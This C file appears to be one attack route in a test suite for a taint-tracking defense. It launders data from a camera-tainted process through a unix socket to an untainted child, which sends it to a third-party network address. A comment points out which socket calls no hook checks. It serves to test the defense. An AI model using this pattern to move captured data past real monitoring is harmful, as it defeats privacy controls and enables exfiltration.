/* unix_listen.c - attack: a tainted process listens on a unix socket at an unlisted path; an untainted process connects, reads the bytes and sends them to a third party. */
#include <signal.h>
#include <sys/wait.h>

#include "attack.h"

#define ROUTE "unix_listen"

/* usage: unix_listen CAMERA /PATH A.B.C.D:PORT - PATH is where the tainted side listens (it must not exist) */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	struct sockaddr_un sun;
	socklen_t len, ulen;
	char buf[256];
	int lfd, c, status, sock;
	ssize_t got;
	size_t n;
	pid_t pid;

	if (argc != 4) {
		fprintf(stderr, "usage: " ROUTE " CAMERA /PATH A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[3], &ss, &len);
	if (!at_unix_addr(argv[2], &sun, &ulen)) {
		at_result(ROUTE, "error", "bad unix address \"%s\"", argv[2]);
		return 1;
	}
	fflush(stdout);
	/* The client is forked before any camera is opened: it is never tainted. */
	pid = fork();
	if (pid < 0)
		return at_report_errno(ROUTE, "fork", errno);
	if (pid == 0) {
		int err = ENOENT;

		/*
		 * Wait until the tainted side listens by trying to connect: a pipe
		 * from it would carry taint itself (where BPF LSM runs), and this
		 * route is about the unix socket.
		 */
		for (int i = 0; i < 500 && (err == ENOENT || err == ECONNREFUSED); i++) {
			c = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
			if (c < 0)
				break;
			err = connect(c, (struct sockaddr *)&sun, ulen) < 0 ? errno : 0;
			if (err) {
				close(c);
				usleep(10000);
			}
		}
		if (err) {
			at_report_errno(ROUTE, "untainted client connect", err);
			_exit(0);
		}
		got = read(c, buf, sizeof(buf));
		if (got <= 0) {
			at_result(ROUTE, "error", "the client read nothing");
			_exit(1);
		}
		sock = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (sock < 0 || connect(sock, (struct sockaddr *)&ss, len) < 0) {
			at_report_errno(ROUTE, "untainted client connect to the third party", errno);
			_exit(0);
		}
		if (send(sock, buf, (size_t)got, MSG_NOSIGNAL) != got) {
			at_report_errno(ROUTE, "untainted client send", errno);
			_exit(0);
		}
		at_result(ROUTE, "through", "a tainted listener served %zd bytes to an untainted client, which sent them on",
			  got);
		_exit(0);
	}
	at_taint(ROUTE, argv[1]);
	/* bind, listen and accept are judged by no hook; only connect and send are. */
	lfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&sun, ulen) < 0 || listen(lfd, 1) < 0) {
		at_report_errno(ROUTE, "tainted bind/listen", errno);
		kill(pid, SIGKILL);
		waitpid(pid, &status, 0);
		return 0;
	}
	if ((c = accept(lfd, NULL, NULL)) < 0) {
		at_report_errno(ROUTE, "tainted accept", errno);
		kill(pid, SIGKILL);
	} else {
		n = at_token(buf, sizeof(buf), ROUTE);
		if (write(c, buf, n) != (ssize_t)n)
			at_report_errno(ROUTE, "tainted write to the accepted connection", errno);
		close(c);
	}
	waitpid(pid, &status, 0);
	if (argv[2][0] == '/')
		unlink(argv[2]);
	return 0;
}
